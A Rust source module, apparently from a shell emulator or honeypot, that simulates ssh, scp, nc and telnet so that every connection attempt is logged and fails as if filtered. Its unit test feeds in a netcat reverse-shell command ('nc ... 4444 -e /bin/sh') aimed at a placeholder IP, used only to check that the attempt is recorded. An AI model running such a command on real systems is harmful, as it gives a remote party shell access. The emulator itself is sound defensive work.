//! Reaching other hosts: `ssh`, `scp`, `nc`, `telnet`. Nothing connects; each attempt is an
//! [`Effect::Outbound`] and fails the way a filtered network makes it fail.

use super::{bin, Ctx, Spec};
use crate::Effect;

pub(crate) static SPECS: &[Spec] = &[bin("ssh", ssh), bin("scp", scp), bin("nc", nc), bin("netcat", nc), bin("telnet", telnet)];

fn target_of(args: &[String], with_value: &str) -> Option<String> {
    let mut i = 1;
    while i < args.len() {
        let a = &args[i];
        if a.starts_with('-') {
            if a.len() == 2 && with_value.contains(a.chars().nth(1).unwrap_or(' ')) {
                i += 1;
            }
        } else {
            return Some(a.clone());
        }
        i += 1;
    }
    None
}

fn ssh(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    if args.iter().any(|a| a == "-V") {
        let v = ctx.st.sys.persona.ssh_ident.trim_start_matches("SSH-2.0-").to_owned();
        let ssl = if ctx.st.sys.persona.os.version_id == "12" { "OpenSSL 3.0.15 3 Sep 2024" } else { "OpenSSL 3.0.2 15 Mar 2022" };
        ctx.err(format!("{v}, {ssl}\n"));
        return 0;
    }
    let Some(target) = target_of(args, "bcDEeFIiJLlmOopQRSWw") else {
        ctx.err("usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy] [-B bind_interface]\n           [-b bind_address] [-c cipher_spec] [-D [bind_address:]port]\n           [-E log_file] [-e escape_char] [-F configfile] [-I pkcs11]\n           [-i identity_file] [-J [user@]host[:port]] [-L address]\n           [-l login_name] [-m mac_spec] [-O ctl_cmd] [-o option] [-p port]\n           [-Q query_option] [-R address] [-S ctl_path] [-W host:port]\n           [-w local_tun[:remote_tun]] destination [command [argument ...]]\n");
        return 255;
    };
    let port = args.iter().position(|a| a == "-p").and_then(|i| args.get(i + 1)).cloned().unwrap_or_else(|| "22".into());
    let host = target.rsplit('@').next().unwrap_or(&target).to_owned();
    ctx.effect(Effect::Outbound { tool: "ssh".into(), target: format!("{target}:{port}") });
    ctx.err(format!("ssh: connect to host {host} port {port}: Connection timed out\n"));
    255
}

fn scp(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    let ops: Vec<&String> = args[1..].iter().filter(|a| !a.starts_with('-')).collect();
    if ops.len() < 2 {
        ctx.err("usage: scp [-346ABCOpqRrsTv] [-c cipher] [-D sftp_server_path] [-F ssh_config]\n           [-i identity_file] [-J destination] [-l limit] [-o ssh_option]\n           [-P port] [-S program] [-X sftp_option] source ... target\n");
        return 1;
    }
    let remote = ops.iter().find(|o| o.contains(':')).map(|s| s.to_string());
    match remote {
        Some(r) => {
            let host = r.split(':').next().unwrap_or("").rsplit('@').next().unwrap_or("").to_owned();
            ctx.effect(Effect::Outbound { tool: "scp".into(), target: r.clone() });
            ctx.err(format!("ssh: connect to host {host} port 22: Connection timed out\nscp: Connection closed\n"));
            255
        }
        None => {
            let src = ops[0].clone();
            let dst = ops[ops.len() - 1].clone();
            let argv = vec!["cp".to_owned(), src, dst];
            match super::find("cp") {
                Some(spec) => (spec.run)(ctx, &argv),
                None => 1,
            }
        }
    }
}

fn nc(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    if args.iter().any(|a| a == "-h") {
        ctx.err("OpenBSD netcat (Debian patchlevel 1.219-1)\nusage: nc [-46CDdFhklNnrStUuvZz] [-I length] [-i interval] [-M ttl]\n\t  [-m minttl] [-O length] [-P proxy_username] [-p source_port]\n\t  [-q seconds] [-s sourceaddr] [-T keyword] [-V rtable] [-W recvlimit]\n\t  [-w timeout] [-X proxy_protocol] [-x proxy_address[:port]]\n\t  [destination] [port]\n");
        return 1;
    }
    let ops: Vec<String> = {
        let mut v = Vec::new();
        let mut i = 1;
        while i < args.len() {
            let a = &args[i];
            if a.starts_with('-') {
                if matches!(a.as_str(), "-e" | "-p" | "-w" | "-q" | "-s" | "-i" | "-x" | "-X") {
                    i += 1;
                }
            } else {
                v.push(a.clone());
            }
            i += 1;
        }
        v
    };
    if args.iter().any(|a| a.starts_with("-l")) {
        // A listener would wait forever; end as if interrupted.
        return 0;
    }
    match ops.as_slice() {
        [host, port, ..] => {
            ctx.effect(Effect::Outbound { tool: "nc".into(), target: format!("{host}:{port}") });
            if args.iter().any(|a| a.contains('v')) {
                ctx.err(format!("nc: connect to {host} port {port} (tcp) failed: Connection refused\n"));
            }
            1
        }
        _ => {
            ctx.err("usage: nc [-46CDdFhklNnrStUuvZz] [-I length] [-i interval] [-M ttl]\n\t  [-m minttl] [-O length] [-P proxy_username] [-p source_port]\n\t  [-q seconds] [-s sourceaddr] [-T keyword] [-V rtable] [-W recvlimit]\n\t  [-w timeout] [-X proxy_protocol] [-x proxy_address[:port]]\n\t  [destination] [port]\n");
            1
        }
    }
}

fn telnet(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    let Some(host) = args.get(1).cloned() else {
        ctx.out("telnet> ");
        return 0;
    };
    let port = args.get(2).cloned().unwrap_or_else(|| "23".into());
    ctx.effect(Effect::Outbound { tool: "telnet".into(), target: format!("{host}:{port}") });
    let ip = super::fetch::fake_ip(&host);
    ctx.out(format!("Trying {ip}...\n"));
    ctx.err("telnet: Unable to connect to remote host: Connection refused\n");
    1
}

#[cfg(test)]
mod tests {
    use crate::commands::testing::shell;
    use crate::Effect;

    #[test]
    fn outbound_attempts_are_recorded() {
        let mut sh = shell("debian12");
        let o = sh.execute("ssh -p 2222 root@198.51.100.9; nc -v 198.51.100.9 4444 -e /bin/sh");
        let targets: Vec<String> = o.effects.iter().filter_map(|e| if let Effect::Outbound { target, .. } = e { Some(target.clone()) } else { None }).collect();
        assert_eq!(targets, vec!["root@198.51.100.9:2222".to_owned(), "198.51.100.9:4444".to_owned()]);
    }
}
